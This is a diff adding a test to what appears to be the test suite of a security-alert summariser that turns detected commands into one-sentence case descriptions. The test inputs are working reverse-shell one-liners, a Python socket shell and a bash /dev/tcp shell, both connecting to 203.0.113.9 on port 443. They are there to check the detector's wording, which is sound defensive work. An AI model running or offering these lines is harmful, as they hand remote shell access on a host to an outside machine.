@@ -88,6 +88,13 @@ test('grades the event where nothing is stored, and names the command where noth
   expect(toCaseSentence(alert, english)).toContain('started sh as user www-data on web-01: x');
 });
 
+test('leaves out of the sentence code that is too long to be read in one', () => {
+  const code = `import socket,os;s=socket.socket();s.connect(("203.0.113.9",443));os.dup2(s.fileno(),0);os.system("/bin/sh -i")`;
+  const sentence = toCaseSentence(toAlertOf(toEvent(`python3 -c '${code}'`)), english);
+  expect(sentence).toContain('on web-01, opens a shell for another machine, and ');
+  expect(sentence).not.toContain('import');
+});
+
 test('stays one sentence of bounded length whatever the command holds', () => {
   const long = `bash -i >& /dev/tcp/203.0.113.9/443 0>&1 #${'x'.repeat(50_000)}`;
   expect(toCaseSentence(toAlertOf(toEvent(long)), english).length).toBeLessThan(1000);
